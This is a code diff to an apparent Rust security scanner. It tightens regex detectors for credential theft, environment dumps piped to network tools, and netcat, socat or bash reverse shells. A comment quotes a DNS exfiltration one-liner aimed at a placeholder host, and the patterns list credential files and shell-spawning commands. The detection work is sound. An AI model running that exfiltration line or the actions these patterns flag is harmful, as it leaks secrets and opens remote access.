@@ -494,9 +494,11 @@ folded!(
 // The whole environment or a credential file piped, through any number of
 // stages (compressed, encoded, split), into a network command or lookup:
 // `env | gzip | base32 | ... | while read l; do dig "$l.x.example"; done`.
+// After a pipe, a blank: `|env|` with none is a closure's parameter
+// (Rust's `.find(|env| host.ends_with(env))`, Ruby's `{ |env| ... }`).
 folded!(
     SECRET_PIPED_OUT,
-    r"(?:(?:^|[;&|({]\s*|\$\(\s*|\bdo\s+)(?:env|printenv|set|export\s+-p)\s*\||\b(?:cat|tar|zip|base64|base32|gzip|xxd|od|head|tail|gpg|openssl)\b[^|\n;]*(?:~/\.(?:ssh|aws|kube|gnupg|docker|password-store)\b|\.ssh/id_|id_rsa|id_ed25519|\.aws/credentials|\.netrc|\.git-credentials|\.npmrc|\.pypirc|\.kube/config|\.docker/config\.json|/etc/shadow|\.env\b)[^|\n;]*\|)[^\n]*?\b(?:curl|wget|nc|ncat|netcat|socat|dig|nslookup|drill|host|ping|telnet|openssl\s+s_client|scp)\b"
+    r"(?:(?:^|[;&({]\s*|\|\s+|\$\(\s*|\bdo\s+)(?:env|printenv|set|export\s+-p)\s*\||\b(?:cat|tar|zip|base64|base32|gzip|xxd|od|head|tail|gpg|openssl)\b[^|\n;]*(?:~/\.(?:ssh|aws|kube|gnupg|docker|password-store)\b|\.ssh/id_|id_rsa|id_ed25519|\.aws/credentials|\.netrc|\.git-credentials|\.npmrc|\.pypirc|\.kube/config|\.docker/config\.json|/etc/shadow|\.env\b)[^|\n;]*\|)[^\n]*?\b(?:curl|wget|nc|ncat|netcat|socat|dig|nslookup|drill|host|ping|telnet|openssl\s+s_client|scp)\b"
 );
 folded!(
     SEND_SECRETS,
@@ -887,7 +889,7 @@ fn has_shebang(text: &str) -> bool {
 
 folded!(
     SCRIPT_SECRET_READ,
-    r#"(?:\bsecretaccesskey\b|\bsessiontoken\b|fromnodeproviderchain|get_frozen_credentials\(|\.get_credentials\(\)|\.aws/credentials|\.aws/config|\.ssh/|["'](?:\.aws|\.ssh|\.kube|\.docker|\.gnupg|\.azure)["']|(?:~|\$home|\$\{home\}|homedir\(\)|home\(\))/\.(?:ssh|aws|kube|docker|gnupg|azure|password-store)\b|\.(?:bash|zsh)_history|id_rsa|id_ed25519|\.netrc|\.git-credentials|\.npmrc|\.pypirc|\.kube/config|\.docker/config\.json|/etc/shadow|\.gem/credentials|\.cargo/credentials|\.config/gh/hosts\.yml|\.vault-token|\.pgpass|\.terraform\.d/credentials|\.s3cfg|\.m2/settings\.xml|\.composer/auth\.json|login\s+data|cookies\.sqlite|keychain|dump-keychain|find-(?:generic|internet)-password|(?:default|network|profile\s*\d*)/cookies\b|\bencrypted_value\b|logins\.json|key4\.db|cookies\.binarycookies)|dict\(\s*os\.environ\s*\)|json\.dumps\([^\n]*\bos\.environ\s*[,)}\]]|stringify\([^\n]*\bprocess(?:\.env|\[\s*[\x22'\x60]env[\x22'\x60]\s*\])\s*[,)}\]]|\benv\.to_h(?:ash)?\b|(?:^|[^.\w])env\.(?:select|filter|filter_map|each|each_pair|reject|find_all|to_a|keys|map|inject|each_with_object|sum)\b|\b(?:get-childitem|gci|dir|ls)\s+env:|\[environment\]::getenvironmentvariables\(|\benvironment\.getenvironmentvariables\(|\bsys\.getenv\(\s*\)|\bsystem\.getenv\(\s*\)|processinfo\.processinfo\.environment\b|\b(?:dict|collect|json\.json)\(\s*env\s*\)|os\.environ\.copy\(|os\.environ\.items\(|\bos\.environ\(\)|\bdeno\.env\.toobject\(|\bbun\.env\s*[,)}\]]|(?:^|[^\w>])getenv\(\s*\)|\$_(?:env|server)\s*[,)}\]]|\\%env\b|\{\s*%env\s*\}|json\.dumps\(\s*(?:dict\()?os\.environ|stringify\(\s*process\.env\s*\)|\bobject\.entries\(\s*process\.env\s*\)|\{\s*\.\.\.process\.env\s*\}|\$\(\s*(?:env|printenv)\s*\)|\bprintenv\s*(?:\||>|$)|\benv\s*(?:\||>)"#
+    r#"(?:\bsecretaccesskey\b|\bsessiontoken\b|fromnodeproviderchain|get_frozen_credentials\(|\.get_credentials\(\)|\.aws/credentials|\.aws/config|\.ssh/|["'](?:\.aws|\.ssh|\.kube|\.docker|\.gnupg|\.azure)["']|(?:~|\$home|\$\{home\}|homedir\(\)|home\(\))/\.(?:ssh|aws|kube|docker|gnupg|azure|password-store)\b|\.(?:bash|zsh)_history|id_rsa|id_ed25519|\.netrc|\.git-credentials|\.npmrc|\.pypirc|\.kube/config|\.docker/config\.json|/etc/shadow|\.gem/credentials|\.cargo/credentials|\.config/gh/hosts\.yml|\.vault-token|\.pgpass|\.terraform\.d/credentials|\.s3cfg|\.m2/settings\.xml|\.composer/auth\.json|login\s+data|cookies\.sqlite|\bkeychain\b|login\.keychain|dump-keychain|find-(?:generic|internet)-password|(?:default|network|profile\s*\d*)/cookies\b|\bencrypted_value\b|logins\.json|key4\.db|cookies\.binarycookies)|dict\(\s*os\.environ\s*\)|json\.dumps\([^\n]*\bos\.environ\s*[,)}\]]|stringify\([^\n]*\bprocess(?:\.env|\[\s*[\x22'\x60]env[\x22'\x60]\s*\])\s*[,)}\]]|\benv\.to_h(?:ash)?\b|(?:^|[^.\w])env\.(?:select|filter|filter_map|each|each_pair|reject|find_all|to_a|keys|map|inject|each_with_object|sum)\b|\b(?:get-childitem|gci|dir|ls)\s+env:|\[environment\]::getenvironmentvariables\(|\benvironment\.getenvironmentvariables\(|\bsys\.getenv\(\s*\)|\bsystem\.getenv\(\s*\)|processinfo\.processinfo\.environment\b|\b(?:dict|collect|json\.json)\(\s*env\s*\)|os\.environ\.copy\(|os\.environ\.items\(|\bos\.environ\(\)|\bdeno\.env\.toobject\(|\bbun\.env\s*[,)}\]]|(?:^|[^\w>])getenv\(\s*\)|\$_(?:env|server)\s*[,)}\]]|\\%env\b|\{\s*%env\s*\}|json\.dumps\(\s*(?:dict\()?os\.environ|stringify\(\s*process\.env\s*\)|\bobject\.entries\(\s*process\.env\s*\)|\{\s*\.\.\.process\.env\s*\}|\$\(\s*(?:env|printenv)\s*\)|\bprintenv\s*(?:\||>|$)|\benv\s*(?:\||>)"#
 );
 folded!(
     SCRIPT_NET_SEND,
@@ -1742,7 +1744,7 @@ exact!(
 );
 folded!(
     NC_EXEC,
-    r"\b(?:nc|ncat|netcat)\b[^\n]*\s-(?:e|c)\s+(?:/bin/|/usr/bin/)?(?:ba|z)?sh\b|\bsocat\b[^\n]*\bexec:|\bbash\s+-i\s+>&|\b(?:ba|z|da)?sh\s+-i\s*[0-9]?(?:<&|>&)\s*[0-9]"
+    r"\b(?:nc|ncat|netcat)\b[^\n]*\s-(?:e|c)\s+(?:/bin/|/usr/bin/)?(?:ba|z)?sh\b|\bsocat\b[^\n]*\b(?:exec|system):[\x22']?(?:/bin/|/usr/bin/)?(?:(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell|pwsh|python[0-9.]*|perl|ruby)\b|\bbash\s+-i\s+>&|\b(?:ba|z|da)?sh\s+-i\s*[0-9]?(?:<&|>&)\s*[0-9]"
 );
 folded!(
     PY_SOCKET_SHELL,
@@ -1773,11 +1775,29 @@ fn socket_shell(doc: &Document<'_>) -> Vec<Hit> {
     {
         return Vec::new();
     }
+    // The shell is wired to the socket close by; in a long module (an
+    // HTTP client library) the two are apart and unrelated.
+    let spawns: Vec<u32> = line_hits(doc, &SHELL_SPAWN)
+        .iter()
+        .map(|h| h.line)
+        .collect();
+    let short = doc.text.lines().count() <= SOCKET_SHELL_SHORT_FILE;
     line_hits(doc, &SOCKET_CONNECT)
         .into_iter()
+        .filter(|c| {
+            short
+                || spawns
+                    .iter()
+                    .any(|&s| s.abs_diff(c.line) <= SOCKET_SHELL_LINES)
+        })
         .take(1)
         .collect()
 }
+
+/// Most lines between a socket's connect and the shell wired to it in a
+/// script longer than [`SOCKET_SHELL_SHORT_FILE`] lines.
+const SOCKET_SHELL_LINES: u32 = 60;
+const SOCKET_SHELL_SHORT_FILE: usize = 200;
 
 folded!(CONNECT_ANY, r"\.connect\s*\(");
 folded!(
